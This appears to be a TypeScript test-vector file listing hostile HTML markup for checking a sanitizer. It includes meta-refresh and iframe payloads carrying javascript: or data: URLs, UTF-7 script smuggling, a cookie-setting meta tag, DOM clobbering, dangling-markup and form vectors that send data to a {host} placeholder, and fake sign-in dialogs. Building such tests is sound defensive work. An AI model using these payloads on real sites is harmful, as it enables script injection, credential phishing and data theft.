import { vectorsOf } from '../vector.ts'

export const markup = vectorsOf('markup', {
  'refresh elsewhere': '<meta http-equiv=refresh content="0;url=https://{host}/">',
  'refresh to javascript': '<meta http-equiv=refresh content="0;url=javascript:{js}">',
  'refresh to data': '<meta http-equiv=refresh content="0;url=data:text/html;base64,{b64}">',
  'policy of its own': `<meta http-equiv=content-security-policy content="script-src * 'unsafe-inline'"><script>{js}</script>`,
  'policy that reports': `<meta http-equiv=content-security-policy content="img-src 'none';report-uri https://{host}/r"><img src="https://{host}/x">`,
  'cookie of its own': '<meta http-equiv=set-cookie content="engawa.session_token=x">',
  'referrer of its own': '<meta name=referrer content=unsafe-url><img src="https://{host}/r.png">',
  'charset of its own': '<meta charset=utf-7>+ADw-script+AD4-{js}+ADw-/script+AD4-',
  'base elsewhere': '<base href="https://{host}/"><img src=x.png><script src=x.js></script>',
  'base target': '<base target=_top><a href="https://shop.example/">x</a>',
  'frame elsewhere': '<iframe src="https://{host}/"></iframe>',
  'frame srcdoc': '<iframe srcdoc="<script>parent.{js};{js}</script>"></iframe>',
  'frame srcdoc image': '<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>',
  'frame data': '<iframe src="data:text/html;base64,{b64}"></iframe>',
  'frame of ours': '<iframe src="/settings/members"></iframe>',
  'frame over everything': '<iframe style="position:fixed;inset:0" src="https://{host}/"></iframe>',
  'old frames': '<frameset><frame src="https://{host}/"></frameset>',
  'object page': '<object data="https://{host}/" type=text/html></object>',
  'object data page': '<object data="data:text/html;base64,{b64}"></object>',
  'object with parameters':
    '<object classid=clsid:ae24fdae><param name=url value="javascript:{js}"><param name=movie value="https://{host}/x.swf"></object>',
  embed: '<embed src="https://{host}/x.swf" allowscriptaccess=always>',
  'embed data page': '<embed src="data:text/html;base64,{b64}">',
  applet: '<applet code=x.class codebase="https://{host}/"></applet>',
  'fenced frame': '<fencedframe src="https://{host}/"></fencedframe>',
  portal: '<portal src="https://{host}/"></portal>',
  'form elsewhere':
    '<form action="https://{host}/"><input name=password type=password><input type=submit></form>',
  'form with image': '<form><input type=image src="https://{host}/x.png"></form>',
  'button elsewhere': '<form id=f></form><button form=f formaction="https://{host}/">x</button>',
  'form around the page': '</div></div><form action="https://{host}/"><textarea name=x>',
  'dangling image': `<img src='https://{host}/?`,
  'dangling form': `<form action=https://{host}/><button>x</button><select name=x><option>`,
  'dangling base target': `<a href=https://shop.example/>x</a><base target='`,
  'picture source': '<picture><source srcset="https://{host}/x.png"><img src=x></picture>',
  srcset: '<img srcset="https://{host}/x.png 1x, https://{host}/y.png 2x">',
  'image sizes': '<img sizes=100vw srcset="https://{host}/x.png 100w" loading=eager>',
  'cross origin image':
    '<img crossorigin=use-credentials src="https://{host}/x.png" referrerpolicy=unsafe-url>',
  'image attributes of old':
    '<img lowsrc="https://{host}/l" dynsrc="https://{host}/d" longdesc="https://{host}/g">',
  'remote by our own attribute':
    '<img data-remote-src="https://{host}/x.png" src="https://{host}/y.png">',
  'remote javascript by our own attribute': '<img data-remote-src="javascript:{js}">',
  'video poster':
    '<video poster="https://{host}/p.png" src="https://{host}/v.mp4" autoplay muted></video>',
  'audio source': '<audio autoplay><source src="https://{host}/a.mp3"></audio>',
  'video track':
    '<video src="data:video/mp4,x"><track kind=captions default src="https://{host}/t.vtt"></video>',
  'table background':
    '<table background="https://{host}/t.png"><tr><td background="https://{host}/d.png">x</table>',
  'body background': '<body background="https://{host}/b.png" link="javascript:{js}">x',
  prefetch: '<link rel=prefetch href="https://{host}/p">',
  preload: '<link rel=preload as=image href="https://{host}/p.png">',
  'module preload': '<link rel=modulepreload href="https://{host}/m.js">',
  prerender: '<link rel=prerender href="https://{host}/r">',
  icon: '<link rel=icon href="https://{host}/i.ico"><link rel="apple-touch-icon" href="https://{host}/i.png">',
  manifest: '<link rel=manifest href="https://{host}/m.json">',
  'html import': '<link rel=import href="https://{host}/i.html">',
  'html manifest': '<html manifest="https://{host}/m.appcache"><body>x',
  'background sound': '<bgsound src="https://{host}/b.wav">',
  layer: '<layer src="https://{host}/l"></layer><ilayer src="https://{host}/i"></ilayer>',
  'xml island':
    '<xml id=x src="https://{host}/x.xml"></xml><span datasrc=#x datafld=c dataformatas=html></span>',
  'html and xml':
    '<html xmlns:t="urn:schemas-microsoft-com:time"><?import namespace=t implementation=#default#time2><t:set attributeName=innerHTML to="<img src=x onerror={js}>">',
  'office markup':
    '<!--[if mso]><v:rect><v:fill src="https://{host}/v.png"/></v:rect><![endif]--><v:image src="https://{host}/w.png"/>',
  'clobbered names':
    '<form id=document name=body><input name=cookie id=location></form><img name=getElementById>',
  'ids and classes of ours':
    '<div id=root class="mantine-Modal-root" role=dialog aria-modal=true>Sign in</div>',
  'full-screen link':
    '<a href="https://shop.example/" target=_top>x</a><a href="https://shop.example/" target=_parent>y</a>',
  'download link': '<a href="data:application/octet-stream,x" download="invoice.exe">x</a>',
  'accesskey and tabindex': '<a accesskey=x tabindex=1 href="javascript:{js}">x</a>',
  'interest and invoker':
    '<button commandfor=d command=show-modal>x</button><dialog id=d><iframe src="https://{host}/"></iframe></dialog>',
  'web bundle':
    '<script type=webbundle>{"source":"https://{host}/w.wbn","resources":["https://{host}/r"]}</script>',
  'open dialog': '<dialog open style="position:fixed">Your session has ended</dialog>',
})
